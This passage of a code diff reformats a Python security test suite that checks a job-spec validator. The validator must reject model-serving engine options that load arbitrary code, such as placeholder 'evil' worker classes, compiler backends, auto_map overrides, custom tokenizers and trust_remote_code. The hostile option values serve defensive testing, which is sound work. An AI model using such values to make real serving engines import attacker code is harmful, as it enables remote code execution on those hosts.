         op.execute({"ti": _ti(), "params": {"sa": "admin"}})
     op = _plan("{% include params.f %}", yaml.safe_dump(doc), dag=dag)
@@ -836,15 +1044,21 @@ def test_an_included_spec_file_is_the_dag_files_unless_it_reads_params(allowed, 
 
 
 CODE_LOADING_ENGINE_KWARGS = [
-    {"worker_cls": "evil.Worker"}, {"worker_extension_cls": "evil.Ext"}, {"model_loader_extra_config": {"a": 1}},
+    {"worker_cls": "evil.Worker"},
+    {"worker_extension_cls": "evil.Ext"},
+    {"model_loader_extra_config": {"a": 1}},
     {"compilation_config": {"backend": "evil.module.compile"}},
     {"compilation_config": {"inductor_passes": {"p": "evil.module.Pass"}}},
     {"compilation_config": {"inductor_compile_config": {"post_grad_custom_post_pass": "evil.p"}}},
-    {"compilation_config": {"debug_dump_path": "/tmp/dump"}}, {"compilation_config": {"cache_dir": "/tmp/c"}},
-    {"compilation_config": "evil.module.compile"}, {"compilation_config": True},
+    {"compilation_config": {"debug_dump_path": "/tmp/dump"}},
+    {"compilation_config": {"cache_dir": "/tmp/c"}},
+    {"compilation_config": "evil.module.compile"},
+    {"compilation_config": True},
     {"hf_overrides": {"auto_map": {"AutoModel": "evil--m.Model"}}},
     {"hf_overrides": {"text_config": {"auto_map": {"AutoConfig": "evil.C"}}}},
-    {"hf_overrides": {"tokenizer_class": "evil.Tok"}}, {"tokenizer_mode": "custom"}, {"load_format": "pt"},
+    {"hf_overrides": {"tokenizer_class": "evil.Tok"}},
+    {"tokenizer_mode": "custom"},
+    {"load_format": "pt"},
 ]
 
 
@@ -855,8 +1069,11 @@ def test_code_loading_engine_options_and_remote_code_need_the_deployment(allowed
     tried = rejected = 0
     for kwargs in CODE_LOADING_ENGINE_KWARGS + [None]:
         tried += 1
-        doc = with_value(base_doc(allowed), "model.trust_remote_code", True) if kwargs is None else \
-            with_value(base_doc(allowed), "engine.engine_kwargs", kwargs)
+        doc = (
+            with_value(base_doc(allowed), "model.trust_remote_code", True)
+            if kwargs is None
+            else with_value(base_doc(allowed), "engine.engine_kwargs", kwargs)
+        )
         try:
             spec = JobSpec.load(doc)
             check_deployment(spec, prefixes(allowed))
@@ -867,8 +1084,12 @@ def test_code_loading_engine_options_and_remote_code_need_the_deployment(allowed
             print(f"ACCEPTED {kwargs}")
     record_malicious("code_loading_engine_options", tried, rejected)
     assert rejected == tried
-    data_only = {"compilation_config": {"level": 3, "cudagraph_capture_sizes": [1, 2, 4]}, "tokenizer_mode": "auto",
-                 "hf_overrides": {"rope_scaling": {"factor": 2.0, "rope_type": "linear"}}, "block_size": 16}
+    data_only = {
+        "compilation_config": {"level": 3, "cudagraph_capture_sizes": [1, 2, 4]},
+        "tokenizer_mode": "auto",
+        "hf_overrides": {"rope_scaling": {"factor": 2.0, "rope_type": "linear"}},
+        "block_size": 16,
+    }
     spec = JobSpec.load(with_value(base_doc(allowed), "engine.engine_kwargs", data_only))
     check_remote_code(spec, allowed=False)  # data-only options need nothing
     check_remote_code(JobSpec.load(with_value(base_doc(allowed), "model.trust_remote_code", True)), allowed=True)
